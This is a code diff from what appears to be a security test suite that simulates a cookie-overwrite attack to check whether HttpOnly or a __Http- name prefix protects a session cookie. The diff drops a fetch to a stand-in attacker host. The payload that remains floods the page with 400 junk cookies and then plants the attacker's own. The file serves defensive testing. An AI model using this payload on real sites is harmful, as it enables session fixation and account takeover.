@@ -2,15 +2,13 @@
 // attacker's own in its place. The attacker has one hole in the page's HTML and an account. Expected: HttpOnly does not prevent it; a
 // name that begins with __Http- does.
 import { stopped, succeeded, type Attack } from '../attack.ts'
-import { EVIL } from '../world/hosts.ts'
 import { told } from '../scene.ts'
 import { fruitless, readBook, scriptReport } from './loot.ts'
 import { attackersCookie } from './attackers-cookie.ts'
 import type { Payload } from '../world/payload.ts'
 
-const script: Payload = async (kit) => {
-  const value = await (await fetch(`${kit.evil}/own-cookie`)).text()
-  const { name, path } = kit.params
+const script: Payload = (kit) => {
+  const { name, path, value } = kit.params
   for (let index = 0; index < 400; index++) document.cookie = `x${index}=y; Path=${path}; Secure; Max-Age=600`
   document.cookie = `${name}=${value}; Path=${path}; Secure; Max-Age=600`
 }
@@ -31,12 +29,7 @@ export const cookieOverwrite: Attack = {
   async run(scene) {
     const page = await scene.signIn()
     const { name, path, value } = await attackersCookie(scene)
-    await scene.thief.publish({
-      address: `${EVIL}/own-cookie`,
-      body: value,
-      headers: { 'access-control-allow-origin': '*' },
-    })
-    await scene.injectLate(script, { name, path })
+    await scene.injectLate(script, { name, path, value })
     await readBook(page)
     const report = await scriptReport(scene)
     if (!report.ran) return stopped(fruitless(scene, report, ''))
